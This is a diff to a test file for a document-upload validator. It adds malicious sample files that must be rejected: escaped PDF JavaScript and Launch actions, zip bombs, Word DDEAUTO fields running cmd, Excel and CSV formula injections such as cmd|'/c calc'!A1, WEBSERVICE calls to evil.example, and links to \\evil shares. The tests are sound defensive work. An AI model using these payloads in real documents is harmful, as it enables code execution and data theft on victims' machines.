@@ -4,13 +4,18 @@ import zipfile
 from collections.abc import Callable
 from typing import NamedTuple
 
-from fundflow.files.office import BOMB, DAMAGED, INSIDE, LINKED, LOCKED, MACROS
+import pikepdf
+
+from fundflow.files.checking import FORMULA
+from fundflow.files.office import BOMB, INSIDE, LINKED, LOCKED, MACROS
+from fundflow.files.parts import DAMAGED, FIELD
 from tests.files import samples as s
 from tests.files.samples import MEGABYTE, csv, docx, pdf, relations, xlsx, zipped
 
 KINDS = "Choose a PDF, Word (.docx), Excel (.xlsx) or CSV file"
 HIDDEN = "The PDF has another file hidden in it"
 EXTERNAL = "word/_rels/settings.xml.rels"
+CONNECTIONS = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
 
 
 class Bad(NamedTuple):
@@ -64,6 +69,60 @@ TABLE = (
     _("a PDF that is also a web page", "plan.pdf", b"%PDF-1.7 " + s.HTML + pdf(), HIDDEN),
     _("a PDF with a long tail", "plan.pdf", pdf(after=b"x" * 2000), HIDDEN),
     _("a PDF with a script", "plan.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "holds a program"),
+    _(
+        "a PDF with a script, its name escaped",
+        "plan.pdf",
+        pdf(b"<</S/J#61vaScript/JS(1)>>"),
+        "holds a program",
+    ),
+    _("a PDF with a script, all escaped", "plan.pdf", pdf(b"<</S/#4a#61#76#61#53cript>>"), "holds a program"),
+    _(
+        "a PDF that starts a program, escaped",
+        "plan.pdf",
+        pdf(b"<</S/L#61unch/F(a.exe)>>"),
+        "holds a program",
+    ),
+    _(
+        "a PDF with a script packed away",
+        "plan.pdf",
+        lambda: s.packed({"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")}),
+        "holds a program",
+    ),
+    _(
+        "a script packed away, deep inside",
+        "plan.pdf",
+        lambda: s.packed({"/AA": pikepdf.Array([1, pikepdf.Array([pikepdf.Dictionary(JS="x")])])}),
+        "holds a program",
+    ),
+    _(
+        "a form of Adobe’s own with scripts, packed away",
+        "plan.pdf",
+        lambda: s.packed({"/AcroForm": pikepdf.Dictionary(XFA=pikepdf.Array([]))}),
+        "holds a program",
+    ),
+    _(
+        "a PDF with a file packed away",
+        "plan.pdf",
+        lambda: s.packed({"/Names": pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())}),
+        "or another file",
+    ),
+    _(
+        "a script packed away and encrypted with no password",
+        "plan.pdf",
+        lambda: s.packed(
+            {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript)},
+            encryption=pikepdf.Encryption(owner="x", user=""),
+        ),
+        "holds a program",
+    ),
+    _(
+        "a PDF with a password",
+        "plan.pdf",
+        lambda: s.packed(encryption=pikepdf.Encryption(owner="x", user="y")),
+        "protected by a password",
+    ),
+    _("a PDF of no objects", "plan.pdf", b"%PDF-1.7\n/ObjStm\nstartxref\n9\n%%EOF\n", "damaged"),
+    _("a PDF that swells", "plan.pdf", lambda: s.swollen(1_100 * MEGABYTE), "damaged"),
     _("a PDF with a file in it", "plan.pdf", pdf(b"<</Type/EmbeddedFile>>"), "or another file"),
     # Word and Excel
     _("a Word document with macros", "plan.docm", s.docm, "ends in “.docm” can’t be attached"),
@@ -84,6 +143,13 @@ TABLE = (
     _("an odd compression", "plan.docx", lambda: docx(method=zipfile.ZIP_LZMA), DAMAGED),
     _("a zip bomb", "plan.docx", lambda: s.bomb(40 * MEGABYTE), BOMB),
     _("a larger zip bomb", "plan.docx", lambda: s.bomb(200 * MEGABYTE), BOMB),
+    _("146 KB that become 147 MB", "plan.docx", lambda: s.bomb(147 * MEGABYTE), BOMB),
+    _(
+        "a sheet of 12 MB from 12 KB",
+        "plan.xlsx",
+        lambda: xlsx({"xl/a.xml": b"<a>" + b" " * 12 * MEGABYTE}),
+        BOMB,
+    ),
     _("a zip bomb that lies", "plan.docx", lambda: s.lying(s.bomb(40 * MEGABYTE)), DAMAGED),
     _("a bomb of many parts", "plan.docx", lambda: docx({f"w/{n}.xml": b"" for n in range(4000)}), BOMB),
     _(
@@ -176,6 +242,126 @@ TABLE = (
         lambda: docx({EXTERNAL: relations("image", "\\\\evil\\x.png")}),
         LINKED,
     ),
+    # fields, links and formulas
+    _(
+        "a field that starts a program",
+        "plan.docx",
+        lambda: s.written(s.field("DDEAUTO c:\\\\cmd.exe")),
+        FIELD,
+    ),
+    _(
+        "the same, split over runs",
+        "plan.docx",
+        lambda: s.written(s.field(" D", "DE", "AUTO ", "cmd")),
+        FIELD,
+    ),
+    _("the same, small letters and a quote", "plan.docx", lambda: s.written(s.field('"ddeauto" cmd')), FIELD),
+    _(
+        "the same, simple",
+        "plan.docx",
+        lambda: s.written('<w:fldSimple w:instr="DDE cmd /c"><w:r/></w:fldSimple>'),
+        FIELD,
+    ),
+    _(
+        "the same, in a footer of another name",
+        "plan.docx",
+        lambda: s.written(s.field("DDEAUTO cmd"), part="word/footer.foo"),
+        FIELD,
+    ),
+    _(
+        "a field whose name another field writes",
+        "plan.docx",
+        lambda: s.written(s.field(s.field("QUOTE 68 68 69 65 85 84 79"), " cmd")),
+        FIELD,
+    ),
+    _(
+        "a field in the result of another",
+        "plan.docx",
+        lambda: s.written(s.field("PAGE", result=f"</w:t></w:r>{s.field('DDE cmd')}<w:r><w:t>")),
+        FIELD,
+    ),
+    _(
+        "a text fetched from elsewhere",
+        "plan.docx",
+        lambda: s.written(s.field("INCLUDETEXT http://e/x")),
+        FIELD,
+    ),
+    _(
+        "a field that was deleted",
+        "plan.docx",
+        lambda: s.written("<w:delInstrText>DDE c</w:delInstrText>"),
+        FIELD,
+    ),
+    _("a formula that starts a program", "plan.xlsx", lambda: s.sheet("cmd|'/c calc'!A1"), FIELD),
+    _("the same after a sum", "plan.xlsx", lambda: s.sheet("1+1-MSEXCEL|'..\\cmd'!A1"), FIELD),
+    _(
+        "the same, spelled in numbers",
+        "plan.xlsx",
+        lambda: s.sheet("c&#109;d|<![CDATA['/c calc']]>!A1"),
+        FIELD,
+    ),
+    _("a formula that fetches", "plan.xlsx", lambda: s.sheet('WEBSERVICE("https://evil.example/")'), FIELD),
+    _(
+        "a name that starts a program",
+        "plan.xlsx",
+        lambda: xlsx({"xl/workbook.xml": b"<x><definedName name='a'>cmd|'/c x'!A1</definedName></x>"}),
+        FIELD,
+    ),
+    _(
+        "a link to a program",
+        "plan.xlsx",
+        lambda: xlsx(
+            {"xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd" ddeTopic="/c"/></x>'}
+        ),
+        FIELD,
+    ),
+    _(
+        "a workbook on a share",
+        "plan.xlsx",
+        lambda: xlsx(
+            {
+                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
+                    "externalLinkPath", "\\\\evil\\a.xlsx"
+                )
+            }
+        ),
+        LINKED,
+    ),
+    _(
+        "a connection to a database",
+        "plan.xlsx",
+        lambda: zipped(
+            {
+                "[Content_Types].xml": s.types(
+                    s.EXCEL,
+                    "xl/workbook.xml",
+                    f'<Override PartName="/xl/connections.xml" ContentType="{CONNECTIONS}"/>',
+                ),
+                "xl/workbook.xml": b"<x/>",
+                "xl/connections.xml": b"<x/>",
+            }
+        ),
+        LINKED,
+    ),
+    _(
+        "a formula in a workbook in a document",
+        "plan.docx",
+        lambda: docx({"word/embeddings/a.xlsx": s.sheet("cmd|'/c calc'!A1")}),
+        FIELD,
+    ),
+    *(
+        _(
+            f"a document type in {part}",
+            "plan.docx",
+            lambda part=part: docx({part: b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
+            DAMAGED,
+        )
+        for part in ("word/document.xml", "word/styles.xml", "customXml/item1.xml", "word/theme.bin")
+    ),
+    _("a CSV that starts a program", "data.csv", csv("a,b\n1,=cmd|'/c calc'!A1\n"), FORMULA),
+    _("the same after spaces, in quotes", "data.csv", csv("a;b\n1;\" =cmd|'/c calc'!A1\"\n"), FORMULA),
+    _("the same with a plus", "data.csv", csv("a\tb\n1\t+1-cmd|'/c calc'!A1\n"), FORMULA),
+    _("a CSV that fetches", "data.csv", csv('a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n'), FORMULA),
     # names
     _("two endings", "plan.pdf.exe", pdf, "ends in “.exe” can’t be attached"),
     _("two endings, the good one last", "plan.exe.pdf", pdf, "two endings, “.exe” and “.pdf”"),
